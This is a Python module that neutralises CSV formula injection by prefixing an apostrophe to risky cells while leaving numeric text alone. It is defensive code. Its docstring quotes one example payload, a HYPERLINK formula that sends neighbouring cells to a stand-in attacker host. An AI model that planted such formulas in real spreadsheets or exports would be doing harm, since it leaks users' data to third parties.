"""CSV files that are safe to open in a spreadsheet.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` as a formula, and some also act on
a leading tab or carriage return: a condition named `=HYPERLINK("http://evil.example/?leak="&B2)`
would become a live link that sends the neighbouring cells away. Every CSV the app writes goes
through `safe_writer`, which puts an apostrophe in front of such a cell (OWASP's advice) so that it
reads as the text it is. Numbers stay numbers: an int, float or Decimal is written as it is, and so
is text that is only a number ("-1.2", "+2.6", "78%") or a range of two ("-0.4 to +1.9").
"""

import csv
import re
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?"
_NUMERIC_TEXT = re.compile(rf"{_NUMBER}(?: to {_NUMBER})?")


def safe_cell(value):
    """Return `value` as a spreadsheet will read it as data: text that would start a formula gets a
    leading apostrophe; numbers, and text that is only a number or a range of two, are unchanged."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMERIC_TEXT.fullmatch(text):
        return "'" + text
    return text


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def safe_writer(file, **options):
    """Return a `csv.writer(file, **options)` whose every cell goes through `safe_cell`."""
    return _SafeWriter(csv.writer(file, **options))
